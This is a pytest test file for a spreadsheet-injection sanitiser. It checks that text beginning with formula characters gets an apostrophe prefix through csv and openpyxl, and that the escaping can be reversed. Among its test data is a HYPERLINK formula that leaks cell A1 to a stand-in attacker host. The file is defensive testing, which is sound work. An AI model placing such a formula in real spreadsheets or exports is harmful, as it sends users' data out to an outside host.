"""spreadsheet_safe: text that would run as a formula gets an apostrophe; nothing else
changes. Checked on the values, and through the real csv module and openpyxl."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from spreadsheet_safe import FORMULA_TRIGGERS, safe_cell, safe_row, unescape_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'


@pytest.mark.parametrize("text", [
    "=1+1", HYPERLINK, "+90 555 000 00 00", "-2+3", "-5", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=ŞĞİ", "=şğıöüç", "-", "=", "@",
])
def test_text_starting_with_a_formula_trigger_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_every_owasp_trigger_is_covered() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for trigger in FORMULA_TRIGGERS:
        assert safe_cell(trigger + "cmd") == "'" + trigger + "cmd"


@pytest.mark.parametrize("text", [
    "", "Çelik vida ğüşıöİ – M8×20", "ŞĞİ=", "a=b", "BOLT-8", "12345", "1-2",
    " =1+1", "\n=1+1", "İstanbul", "#REF!",
])
def test_other_text_is_left_verbatim(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [None, 0, -2, 3, -2.5, 1e-9, Decimal("-7.25"), True, False])
def test_numbers_and_none_are_left_alone(value: object) -> None:
    cell = safe_cell(value)
    assert cell is value


def test_text_and_number_minus_two_differ_on_purpose() -> None:
    # -2 is a number: its "-" is a sign and it must still sum. "-2+3" is text a
    # spreadsheet would evaluate to 1: neutralised.
    assert safe_row([-2, "-2+3", "-2"]) == [-2, "'-2+3", "'-2"]


def test_safe_row_keeps_order_and_does_not_touch_its_input() -> None:
    row = ["P-1", HYPERLINK, 4, None, ""]
    assert safe_row(row) == ["P-1", "'" + HYPERLINK, 4, None, ""]
    assert row == ["P-1", HYPERLINK, 4, None, ""]
    assert safe_row(iter(("=a", "b"))) == ["'=a", "b"]


def test_through_the_csv_module_every_cell_reads_back_as_text() -> None:
    rows = [["part_code", "part_name", "quantity"],
            ["=ŞĞİ", HYPERLINK, 3], ["-5", "Çelik, \"vida\"\nM8", -2]]
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(safe_row(row))

    back = list(csv.reader(io.StringIO(out.getvalue())))
    assert back == [["part_code", "part_name", "quantity"],
                    ["'=ŞĞİ", "'" + HYPERLINK, "3"],
                    ["'-5", 'Çelik, "vida"\nM8', "-2"]]
    assert not any(cell.startswith(FORMULA_TRIGGERS) for row in back[1:] for cell in row[:2])


def test_in_xlsx_neutralised_text_is_a_string_cell_and_numbers_stay_numbers() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([HYPERLINK])              # what an export must not do
    sheet.append(safe_row([HYPERLINK, "=ŞĞİ", -2, 2.5, None]))
    buffer = io.BytesIO()
    book.save(buffer)

    loaded = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert loaded["A1"].data_type == "f"   # openpyxl wrote the raw text as a formula
    assert [loaded.cell(2, c).data_type for c in range(1, 5)] == ["s", "s", "n", "n"]
    assert loaded["A2"].value == "'" + HYPERLINK
    assert loaded["B2"].value == "'=ŞĞİ"
    assert loaded["C2"].value == -2
    assert loaded["E2"].value is None


@pytest.mark.parametrize("text", [
    "=SUM(A1)", "'=already text", "''=two", "-5", "@x", "'plain", "plain", "", "'"])
def test_unescape_gives_back_what_safe_cell_wrote(text: str) -> None:
    written = safe_cell(text)
    assert isinstance(written, str)
    assert unescape_cell(written) == text


def test_an_apostrophe_before_a_formula_character_is_kept_one_deeper() -> None:
    assert safe_cell("'=already text") == "''=already text"
    assert unescape_cell("'=SUM(A1)") == "=SUM(A1)"
    assert unescape_cell("'plain") == "'plain"


def test_only_apostrophes_are_looked_past() -> None:
    assert safe_cell("X=1") == "X=1"
    assert unescape_cell("'X=1") == "'X=1"
